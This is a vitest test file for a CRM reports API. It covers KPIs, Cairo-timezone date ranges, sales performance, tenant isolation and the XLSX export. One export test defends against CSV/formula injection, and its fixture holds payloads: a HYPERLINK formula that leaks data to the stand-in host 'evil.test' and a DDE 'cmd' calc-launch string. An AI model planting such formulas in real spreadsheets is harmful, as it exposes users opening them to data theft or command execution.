import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from '@e965/xlsx';
import { startTestApp, type TestApp } from '../../../test/test-app.js';
import { seedCompany, signIn, type SeededCompany } from '../../../test/fixtures.js';
import { addLead, moveTo, setLeadDistribution } from '../../../test/crm-fixtures.js';

/*
 * A company with known leads, deals and expenses on known days (Cairo time: UTC+2 in winter), over
 * two years, and a second company that must never show up.
 */
let t: TestApp;
let acme: SeededCompany;
const token = { admin: '', sales1: '', sales2: '', globexAdmin: '' };
const at = (iso: string) => t.clock.set(new Date(iso));

beforeAll(async () => {
  // sessions live through the months the test walks
  t = await startTestApp({ env: { SESSION_MAX_HOURS: '100000', SESSION_IDLE_MINUTES: '1000000' } });
  at('2025-12-01T08:00:00Z');
  acme = await seedCompany(t, 'acme');
  const globex = await seedCompany(t, 'globex', { sales: 1 });
  token.admin = await signIn(t, acme.admin.email);
  token.sales1 = await signIn(t, acme.sales[0].email);
  token.sales2 = await signIn(t, acme.sales[1].email);
  token.globexAdmin = await signIn(t, globex.admin.email);
  await setLeadDistribution(t, token.admin, 'manual');
  const [s1, s2] = [acme.sales[0].id, acme.sales[1].id];

  const deal = async (iso: string, phone: string, assignedTo: string | undefined, stage: 'lead' | 'customer' | 'sales', salesData?: Record<string, unknown>) => {
    at(iso);
    const c = await addLead(t, token.admin, { name: `C ${phone}`, phone, ...(assignedTo ? { assignedTo } : {}) });
    if (stage !== 'lead') await moveTo(t, token.admin, c._id, stage);
    if (salesData) {
      const res = await t.api.patch(`/contacts/${c._id}`, { salesData }, { token: token.admin });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
    }
  };
  await deal('2025-12-15T10:00:00Z', '01000000001', s1, 'sales', { pipeline_status: 'won', amount: 1000 });
  // 00:30 on 1 January 2026 in Cairo (still 31 December in UTC)
  await deal('2025-12-31T22:30:00Z', '01000000002', s2, 'sales', { pipeline_status: 'won', amount: 500 });
  // 23:30 on 31 January in Cairo: the last evening of the month
  await deal('2026-01-31T21:30:00Z', '01000000003', s1, 'sales', { pipeline_status: 'won', amount: 250.25 });
  await deal('2026-02-10T10:00:00Z', '01000000004', s1, 'sales', { pipeline_status: 'lost', amount: 2000 });
  await deal('2026-02-11T10:00:00Z', '01000000005', s2, 'sales', { pipeline_status: 'negotiation', amount: 300 });
  await deal('2026-02-12T10:00:00Z', '01000000006', s1, 'lead');
  await deal('2026-02-13T10:00:00Z', '01000000007', s2, 'customer');
  await deal('2026-02-14T10:00:00Z', '01000000008', undefined, 'lead');

  for (const e of [
    { title: 'Facebook', amount: 100, category: 'Ads', date: '2025-12-20' },
    { title: 'Google', amount: 50.5, category: 'Ads', date: '2026-01-15' },
    { title: 'Office', amount: 1000, category: 'Rent', date: '2026-02-01' },
    { title: 'Tea', amount: 20, date: '2026-02-02' },
  ]) {
    const res = await t.api.post('/expenses', e, { token: token.admin });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  }
  // the other company: a won deal and an expense of its own
  at('2026-01-10T10:00:00Z');
  const other = await addLead(t, token.globexAdmin, { name: 'Globex lead', phone: '01000000001', assignedTo: globex.sales[0].id });
  await moveTo(t, token.globexAdmin, other._id, 'sales');
  await t.api.patch(`/contacts/${other._id}`, { salesData: { pipeline_status: 'won', amount: 99999 } }, { token: token.globexAdmin });
  await t.api.post('/expenses', { title: 'Globex rent', amount: 7777, category: 'Rent', date: '2026-01-10' }, { token: token.globexAdmin });
  at('2026-03-01T08:00:00Z');
}, 120_000);
afterAll(() => t?.close());

const report = async (query = '', as: keyof typeof token = 'admin') => {
  const res = await t.api.get(`/reports/detailed${query}`, { token: token[as] });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.data;
};

describe('GET /reports/detailed', () => {
  it('all time: every card, the pipeline, revenue per Cairo month across two years, expenses per category, the sales team', async () => {
    expect(await report()).toEqual({
      kpis: { leads: 8, sales: 3, salesAmount: 1750.25, expenses: 1170.5, conversionRate: 37.5, avgDealSize: 583.42 },
      pipeline: [
        { status: 'negotiation', count: 1 },
        { status: 'won', count: 3 },
        { status: 'lost', count: 1 },
      ],
      monthlyRevenue: [
        { _id: { month: 12, year: 2025 }, revenue: 1000, deals: 1 },
        { _id: { month: 1, year: 2026 }, revenue: 750.25, deals: 2 },
      ],
      expensePerformance: [
        { category: 'Rent', totalAmount: 1000 },
        { category: 'Ads', totalAmount: 150.5 },
        { category: null, totalAmount: 20 },
      ],
      salesTeam: [
        { _id: acme.sales[0].id, name: acme.sales[0].name },
        { _id: acme.sales[1].id, name: acme.sales[1].name },
      ],
      // their figures: deal-reports.spec.ts
      lostReasons: expect.any(Array),
      stageDays: expect.any(Array),
    });
  });

  it('from/to are whole calendar days in Cairo, both inclusive: 00:30 on 1 January and 23:30 on 31 January are January', async () => {
    const jan = await report('?from=2026-01-01&to=2026-01-31');
    expect(jan.kpis).toEqual({ leads: 2, sales: 2, salesAmount: 750.25, expenses: 50.5, conversionRate: 100, avgDealSize: 375.13 });
    expect(jan.pipeline).toEqual([{ status: 'won', count: 2 }]);
    expect(jan.monthlyRevenue).toEqual([{ _id: { month: 1, year: 2026 }, revenue: 750.25, deals: 2 }]);
    expect(jan.expensePerformance).toEqual([{ category: 'Ads', totalAmount: 50.5 }]);
    const dec = await report('?from=2025-12-01&to=2025-12-31');
    expect(dec.kpis).toMatchObject({ leads: 1, sales: 1, salesAmount: 1000, expenses: 100 });
    const feb = await report('?from=2026-02-01&to=2026-02-28');
    expect(feb.kpis).toEqual({ leads: 5, sales: 0, salesAmount: 0, expenses: 1020, conversionRate: 0, avgDealSize: 0 });
    expect(feb.monthlyRevenue).toEqual([]);
    // the same days read in UTC put the deal of 22:30 UTC on 31 December into December
    const decUtc = await report('?from=2025-12-01&to=2025-12-31&tz=UTC');
    expect(decUtc.kpis).toMatchObject({ leads: 2, sales: 2, salesAmount: 1500 });
    expect(decUtc.monthlyRevenue).toEqual([{ _id: { month: 12, year: 2025 }, revenue: 1500, deals: 2 }]);
    // one day: only the last evening of January
    expect((await report('?from=2026-01-31&to=2026-01-31')).kpis).toMatchObject({ leads: 1, sales: 1, salesAmount: 250.25 });
  });

  it('assignedTo narrows contacts and deals to one sales person (expenses stay the company’s)', async () => {
    const one = await report(`?assignedTo=${acme.sales[0].id}`);
    expect(one.kpis).toEqual({ leads: 4, sales: 2, salesAmount: 1250.25, expenses: 1170.5, conversionRate: 50, avgDealSize: 625.13 });
    expect(one.pipeline).toEqual([
      { status: 'won', count: 2 },
      { status: 'lost', count: 1 },
    ]);
    expect(one.monthlyRevenue).toEqual([
      { _id: { month: 12, year: 2025 }, revenue: 1000, deals: 1 },
      { _id: { month: 1, year: 2026 }, revenue: 250.25, deals: 1 },
    ]);
    const dated = await report(`?assignedTo=${acme.sales[1].id}&from=2026-01-01&to=2026-02-28`);
    expect(dated.kpis).toMatchObject({ leads: 3, sales: 1, salesAmount: 500, conversionRate: 33.33 });
    expect(dated.pipeline).toEqual([
      { status: 'negotiation', count: 1 },
      { status: 'won', count: 1 },
    ]);
  });

  it('its cards agree with the dashboard and the pipeline on the same data (rules/kpis.ts)', async () => {
    for (const range of ['', 'from=2026-01-01&to=2026-01-31', 'from=2025-12-01&to=2026-02-28']) {
      const r = await report(`?${range}`);
      const stats = (await t.api.get(`/contacts/stats?${range}`, { token: token.admin })).body.data;
      const pipeline = (await t.api.get(`/contacts?stage=sales&withTotals=true&limit=1&${range}`, { token: token.admin })).body.data.totals;
      expect(r.kpis.salesAmount).toBe(stats.salesAmount);
      expect(r.kpis.conversionRate).toBe(stats.conversionRate);
      expect(r.kpis.salesAmount).toBe(pipeline.won.amount);
      expect(r.kpis.sales).toBe(pipeline.won.count);
      expect(r.pipeline.reduce((n: number, p: { count: number }) => n + p.count, 0)).toBe(stats.sales);
    }
  });

  it('refuses a range that ends before it starts and bad dates', async () => {
    const res = await t.api.get('/reports/detailed?from=2026-02-01&to=2026-01-01', { token: token.admin });
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ code: 'date_range.invalid', field: 'from' });
    expect((await t.api.get('/reports/detailed?from=yesterday', { token: token.admin })).status).toBe(400);
    expect((await t.api.get('/reports/detailed?assignedTo=bob', { token: token.admin })).status).toBe(400);
  });

  it('is for admins only', async () => {
    expect((await t.api.get('/reports/detailed', { token: token.sales1 })).status).toBe(403);
    expect((await t.api.get('/reports/detailed')).status).toBe(401);
  });

  it("never shows another company's contacts, deals, expenses or users", async () => {
    const g = await report('', 'globexAdmin');
    expect(g.kpis).toEqual({ leads: 1, sales: 1, salesAmount: 99999, expenses: 7777, conversionRate: 100, avgDealSize: 99999 });
    expect(g.salesTeam.map((u: { _id: string }) => u._id)).not.toContain(acme.sales[0].id);
    const asked = await report(`?assignedTo=${acme.sales[0].id}`, 'globexAdmin');
    expect(asked.kpis).toMatchObject({ leads: 0, sales: 0, salesAmount: 0 });
    expect(asked.monthlyRevenue).toEqual([]);
  });
});

describe('GET /reports/sales-performance/:userId', () => {
  const perf = (userId: string, as: keyof typeof token = 'admin') => t.api.get(`/reports/sales-performance/${userId}`, { token: token[as] });

  it("an admin reads any sales person's totals; conversion = deals ÷ assigned with one decimal", async () => {
    expect((await perf(acme.sales[0].id)).body.data).toEqual({
      totalAssigned: 4,
      convertedToCustomer: 0,
      totalSalesDeals: 3,
      totalSalesAmount: 1250.25,
      conversionRate: 75,
    });
    expect((await perf(acme.sales[1].id)).body.data).toEqual({
      totalAssigned: 3,
      convertedToCustomer: 1,
      totalSalesDeals: 2,
      totalSalesAmount: 500,
      conversionRate: 66.7,
    });
    // nobody assigned: 0, not a division by zero
    expect((await perf(acme.admin.id)).body.data).toEqual({ totalAssigned: 0, convertedToCustomer: 0, totalSalesDeals: 0, totalSalesAmount: 0, conversionRate: 0 });
  });

  it('a sales user reads only their own', async () => {
    const own = await perf(acme.sales[0].id, 'sales1');
    expect(own.status).toBe(200);
    expect(own.body.data.totalAssigned).toBe(4);
    const other = await perf(acme.sales[1].id, 'sales1');
    expect(other.status).toBe(403);
    expect(other.body.code).toBe('reports.own_performance_only');
  });

  it("another company's user is not found; a bad id is refused", async () => {
    const res = await perf(acme.sales[0].id, 'globexAdmin');
    expect(res.status).toBe(404);
    expect(res.body.code).toBe('reports.user_not_found');
    expect((await perf('not-a-uuid')).status).toBe(400);
  });
});

describe('GET /reports/export', () => {
  const download = async (query: string, as: keyof typeof token = 'admin') => {
    const res = await fetch(`${t.url}/api/reports/export${query}`, { headers: { authorization: `Bearer ${token[as]}` } });
    return { res, body: Buffer.from(await res.arrayBuffer()) };
  };
  /** Each sheet as rows of raw values (numbers stay numbers), heads first. */
  const sheets = (body: Buffer) => {
    const book = XLSX.read(body, { type: 'buffer' });
    return {
      names: book.SheetNames,
      rows: book.SheetNames.map((name) => XLSX.utils.sheet_to_json<(string | number)[]>(book.Sheets[name], { header: 1, raw: true, defval: '' })),
    };
  };
  const setLanguage = async (language: 'en' | 'ar') => {
    const res = await t.api.patch('/auth/me/preferences', { language }, { token: token.admin });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
  };

  it('downloads Report_{date}.xlsx: KPIs, Pipeline, Monthly Revenue, Expenses by Category, with the figures of /reports/detailed', async () => {
    const query = '?from=2026-01-01&to=2026-02-28';
    const detailed = await report(query);
    const { res, body } = await download(query);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    // 1 March 2026 (10:00 in Cairo) is the test clock's day
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="Report_2026-03-01.xlsx"');
    const { names, rows } = sheets(body);
    expect(names).toEqual(['KPIs', 'Pipeline', 'Monthly Revenue', 'Expenses by Category', 'Lost Reasons', 'Days per Stage']);
    const [kpis, pipeline, monthly, expenses] = rows;
    const k = detailed.kpis;
    expect(kpis).toEqual([
      ['Metric', 'Value'],
      ['New Leads', k.leads],
      ['Won Deals', k.sales],
      ['Sales Revenue', k.salesAmount],
      ['Total Expenses', k.expenses],
      ['Conversion Rate (%)', k.conversionRate],
      ['Avg Deal Size', k.avgDealSize],
    ]);
    expect(k).toEqual({ leads: 7, sales: 2, salesAmount: 750.25, expenses: 1070.5, conversionRate: 28.57, avgDealSize: 375.13 });
    expect(pipeline).toEqual([['Status', 'Deals'], ...detailed.pipeline.map((p: { status: string; count: number }) => [p.status[0].toUpperCase() + p.status.slice(1), p.count])]);
    expect(monthly).toEqual([
      ['Year', 'Month', 'Revenue', 'Deals'],
      ...detailed.monthlyRevenue.map((m: { _id: { year: number; month: number }; revenue: number; deals: number }) => [m._id.year, m._id.month, m.revenue, m.deals]),
    ]);
    expect(monthly.length).toBeGreaterThan(1);
    expect(expenses).toEqual([
      ['Category', 'Total Amount'],
      ...detailed.expensePerformance.map((e: { category: string | null; totalAmount: number }) => [e.category ?? 'Uncategorized', e.totalAmount]),
    ]);
    expect(expenses).toContainEqual(['Uncategorized', 20]);
  }, 30_000);

  it("names the sheets and heads in the user's language (Arabic)", async () => {
    await setLanguage('ar');
    try {
      const detailed = await report(`?assignedTo=${acme.sales[0].id}`);
      const { res, body } = await download(`?assignedTo=${acme.sales[0].id}`);
      expect(res.status).toBe(200);
      const { names, rows } = sheets(body);
      expect(names).toEqual(['الأرقام الرئيسية', 'المسار', 'الإيرادات الشهرية', 'المصروفات حسب الفئة', 'أسباب الخسارة', 'الأيام في كل مرحلة']);
      expect(rows[0][0]).toEqual(['المؤشر', 'القيمة']);
      expect(rows[0][1]).toEqual(['عملاء محتملون جدد', detailed.kpis.leads]);
      expect(rows[0][3]).toEqual(['إيرادات المبيعات', detailed.kpis.salesAmount]);
      expect(rows[0].slice(1).map((r) => r[1])).toEqual([
        detailed.kpis.leads,
        detailed.kpis.sales,
        detailed.kpis.salesAmount,
        detailed.kpis.expenses,
        detailed.kpis.conversionRate,
        detailed.kpis.avgDealSize,
      ]);
      expect(rows[1][0]).toEqual(['الحالة', 'الصفقات']);
      expect(rows[1]).toContainEqual(['تم الفوز', 2]);
      expect(rows[2][0]).toEqual(['السنة', 'الشهر', 'الإيرادات', 'الصفقات']);
      expect(rows[3][0]).toEqual(['الفئة', 'إجمالي المبلغ']);
      expect(rows[3]).toContainEqual(['بدون فئة', 20]);
    } finally {
      await setLanguage('en');
    }
  }, 30_000);

  it('is for admins only', async () => {
    expect((await download('', 'sales1')).res.status).toBe(403);
  });

  it("writes a category typed as a formula as text starting with ', the amounts as numbers (OWASP CSV injection)", async () => {
    // a company of its own, so the other tests' figures stay as they are
    const initech = await seedCompany(t, 'initech-export', { sales: 0 });
    const as = await signIn(t, initech.admin.email);
    const categories = ['=HYPERLINK("http://evil.test/?leak="&B2,"Invoice")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3', '+1+1', 'Ads'];
    for (const [i, category] of categories.entries()) {
      const res = await t.api.post('/expenses', { title: `E${i}`, amount: 10 * (i + 1), category, date: '2026-01-10' }, { token: as });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    const res = await fetch(`${t.url}/api/reports/export?from=2026-01-01&to=2026-01-31`, { headers: { authorization: `Bearer ${as}` } });
    expect(res.status).toBe(200);
    const book = XLSX.read(Buffer.from(await res.arrayBuffer()), { type: 'buffer', cellFormula: true });
    const sheet = book.Sheets['Expenses by Category'];
    const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')) as [string, XLSX.CellObject][];
    expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([]);
    const rows = XLSX.utils.sheet_to_json<[string, number]>(sheet, { header: 1, raw: true }).slice(1);
    expect(new Map(rows)).toEqual(
      new Map([
        [`'${categories[0]}`, 10],
        [`'${categories[1]}`, 20],
        ["'-2+3", 30],
        ["'+1+1", 40],
        ['Ads', 50],
      ]),
    );
    // every amount a number cell, the KPIs too
    for (const r of [2, 3, 4, 5, 6]) expect(sheet[`B${r}`].t).toBe('n');
    expect(book.Sheets.KPIs.B5).toMatchObject({ t: 'n', v: 150 });
  });

  it("never exports another company's figures", async () => {
    const globex = await report('', 'globexAdmin');
    const { res, body } = await download('', 'globexAdmin');
    expect(res.status).toBe(200);
    const [kpis, , , expenses] = sheets(body).rows;
    expect(kpis.slice(1).map((r) => r[1])).toEqual([1, 1, 99999, 7777, 100, 99999]);
    expect(globex.kpis).toEqual({ leads: 1, sales: 1, salesAmount: 99999, expenses: 7777, conversionRate: 100, avgDealSize: 99999 });
    expect(expenses).toEqual([
      ['Category', 'Total Amount'],
      ['Rent', 7777],
    ]);
  });

  it('refuses the bad queries /reports/detailed refuses', async () => {
    const { res } = await download('?from=2026-02-01&to=2026-01-01');
    expect(res.status).toBe(400);
  });
});
